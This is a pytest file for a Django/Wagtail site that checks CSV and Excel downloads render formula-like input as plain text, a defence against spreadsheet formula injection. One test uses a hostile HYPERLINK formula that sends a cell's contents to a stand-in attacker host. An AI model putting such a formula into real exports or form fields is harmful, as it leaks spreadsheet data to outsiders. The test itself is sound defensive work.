"""Every CSV and Excel download shows what people typed as text, never as a formula."""

import csv
import io

import pytest
from openpyxl import load_workbook

from tambon.core.exports import csv_download, xlsx_download


def csv_cells(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]


@pytest.mark.parametrize(
    "typed",
    ["=1+2", "+66 81 234 5678", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("x")'],
)
def test_text_that_would_run_as_a_formula_is_shown_as_text_in_csv(typed):
    assert csv_cells(csv_download("x.csv", ["a"], [[typed]])) == ["'" + typed]


@pytest.mark.parametrize("kept", ["-1,250.00", "+5", "-", "ข่าว = ประกาศ", "2568-10-01", 42, -3])
def test_numbers_and_ordinary_text_are_written_as_they_are(kept):
    assert csv_cells(csv_download("x.csv", ["a"], [[kept]])) == [str(kept)]


def test_an_excel_cell_typed_as_a_formula_is_stored_as_its_text():
    response = xlsx_download("x.xlsx", "sheet", ["a", "b"], [['=HYPERLINK("x")', 7]])
    sheet = load_workbook(io.BytesIO(response.content)).active
    typed, number = sheet["A2"], sheet["B2"]
    assert (typed.value, typed.data_type) == ('=HYPERLINK("x")', "s")
    assert (number.value, number.data_type) == (7, "n")


@pytest.mark.django_db
def test_wagtails_own_admin_reports_write_no_formula_into_their_csv(client, home):
    from django.contrib.auth import get_user_model

    from tambon.pages.tests.factories import StandardPageFactory

    editor = get_user_model().objects.create_superuser("editor", password="a-long-password-1")
    attack = '=HYPERLINK("http://attacker.example/?x="&C3,"เปิด")'
    page = StandardPageFactory(parent=home, title=attack, slug="attack")
    page.save_revision(user=editor).publish(user=editor)
    client.force_login(editor)

    response = client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + attack in cells
    assert attack not in cells
